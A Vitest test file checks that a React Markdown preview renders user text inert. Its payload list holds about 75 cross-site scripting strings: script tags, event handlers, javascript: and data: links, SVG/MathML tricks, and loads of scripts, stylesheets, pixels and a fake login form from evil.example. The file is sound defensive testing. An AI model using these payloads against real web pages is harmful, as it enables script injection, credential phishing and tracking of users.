import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { MarkdownPreview } from './markdown-preview.tsx'

/** Everything that a preview is drawn with: what else stands in it came from the writer. */
const TAGS = /^(?:div|h[456]|p|br|hr|blockquote|ul|ol|li|span|strong|em|del|code|pre|section|table|thead|tbody|tr|th|td)$/
const ATTRIBUTES: Record<string, RegExp> = {
  class: /^[\w\s[\](),:.%/-]*$/,
  start: /^\d+$/,
  tabindex: /^0$/,
  'aria-label': /^Table$/,
}

const drawn = (text: string) => renderToStaticMarkup(<MarkdownPreview text={text} />)

/** The tags of the markup with their attributes. React escapes every "<" of a text, so what looks like a tag is one. */
function tagsOf(html: string): { name: string; attributes: [string, string][] }[] {
  return [...html.matchAll(/<([a-zA-Z!?][^\s/>]*)([^>]*)>/g)].map(([, name = '', rest = '']) => ({
    name: name.toLowerCase(),
    attributes: [...rest.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)].map(([, attribute = '', value = '']) => [attribute.toLowerCase(), value]),
  }))
}

/** What in the markup is alive and not the preview's own. */
function alive(html: string): string[] {
  return tagsOf(html).flatMap(({ name, attributes }) => [
    ...(TAGS.test(name) ? [] : [`<${name}>`]),
    ...attributes.flatMap(([attribute, value]) => (ATTRIBUTES[attribute]?.test(value) ? [] : [`${name} ${attribute}="${value}"`])),
  ])
}

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<body onload=alert(1)>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" target="_blank" style="position:fixed;inset:0">x</a>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">x</div>',
  '<div id="content" class="fixed inset-0" onclick="alert(1)">x</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
  '<!DOCTYPE html><html><head><title>x</title></head></html>',
  '<x onclick=alert(1)>unknown</x>',
  '</div></section><h1>outside</h1>',
  '[words](javascript:alert(1))',
  '[words](JaVaScRiPt:alert(1))',
  '[words](java&#x0A;script:alert(1))',
  '[words](&#106;avascript:alert(1))',
  '[words](\u0001javascript:alert(1))',
  '[words](vbscript:msgbox(1))',
  '[words](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[words](file:///etc/passwd)',
  '[words](//evil.example)',
  '[words](https://evil.example "onmouseover=alert(1)")',
  '[words](https://evil.example/"onmouseover="alert(1))',
  '[words][ref]\n\n[ref]: javascript:alert(1)',
  '[words][ref]\n[ref]: https://evil.example',
  '<javascript:alert(1)>',
  '<https://evil.example>',
  'https://evil.example/x and www.evil.example and me@evil.example',
  '![pixel](https://evil.example/pixel.gif)',
  '![x](x "a" onerror=alert(1))',
  '![x" onerror="alert(1)](x)',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '``` "><script>alert(1)</script>\nx\n```',
  '| <img src=x onerror=alert(1)> | b |\n|:--:|--:|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
  '- [x] <input onfocus=alert(1) autofocus>\n- [ ] [x](javascript:alert(1))',
  '> <script>alert(1)</script>',
  '# <img src=x onerror=alert(1)>',
  'Words[^1].\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
  'Words[^1].\n[^1]: note',
  '~~<script>alert(1)</script>~~ **<img src=x onerror=alert(1)>**',
  '99999999999999999999. <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '\u202e<script>alert(1)</script>',
  '<a\nhref="javascript:alert(1)"\n>x</a>',
]

describe('of scripts and HTML in a narrative nothing is alive in its preview', () => {
  test.each(PAYLOADS)('%j', (payload) => {
    expect(alive(drawn(payload))).toEqual([])
    expect(alive(drawn(`Before ${payload} after\n\n${payload}\n\n- ${payload}\n  ${payload}`))).toEqual([])
  })

  test('what is alive would be noticed', () => {
    expect(alive('<p><a href="https://evil.example">x</a><b onclick="x()">y</b></p><p style="color:red">')).toEqual([
      '<a>',
      'a href="https://evil.example"',
      '<b>',
      'b onclick="x()"',
      'p style="color:red"',
    ])
  })
})

test('HTML stands as it was typed', () => {
  expect(drawn('The <b>coil</b>')).toContain('The &lt;b&gt;coil&lt;/b&gt;')
})

test('a link is its words and, of the web, its address; nothing of a picture is loaded', () => {
  expect(drawn('[the standard](https://example.com/a)')).toContain('the standard (https://example.com/a)')
  expect(drawn('[the standard](javascript:alert(1))')).toContain('<span>the standard</span>')
  expect(drawn('https://example.com/a')).toContain('<span>https://example.com/a</span>')
  expect(drawn('![A coil](https://example.com/a.png)')).toContain('Image: A coil (https://example.com/a.png)')
})

test('headings, emphasis, lists, tasks and tables are drawn', () => {
  const html = drawn(
    '# Objective\n\nThe **coil** is _wound_.\n\n3. first\n4. second\n\n- [x] done\n- [ ] open\n\n| a | b |\n|---|---|\n| 1 | 2 |',
  )
  expect(html).toMatch(/<h4[^>]*>Objective<\/h4>/)
  expect(html).toContain('<strong>coil</strong>')
  expect(html).toMatch(/<ol start="3"[^>]*>\s*<li>first<\/li>/)
  expect(html).toMatch(/☑[^☐]*done[\s\S]*☐[^☑]*open/)
  expect(html).toMatch(/<th[^>]*>a<\/th>[\s\S]*<td[^>]*>1<\/td>/)
})

test('the highest heading stands below those of the screen, at whatever level it was written', () => {
  const levels = (text: string) => [...drawn(text).matchAll(/<(h\d)/g)].map(([, tag]) => tag)
  expect(levels('## Coupons\n\n### Objective\n\n#### Tools\n\n##### Saw')).toEqual(['h4', 'h5', 'h6', 'h6'])
  expect(levels('### Objective\n\n#### Tools\n\n### Place')).toEqual(['h4', 'h5', 'h4'])
  expect(levels('###### Objective')).toEqual(['h4'])
})

test('brackets, stars and tags without end are drawn as words', () => {
  for (const piece of ['<', '[', '![', '**', '<a href="', '`', '> ']) expect(alive(drawn(piece.repeat(2000)))).toEqual([])
})
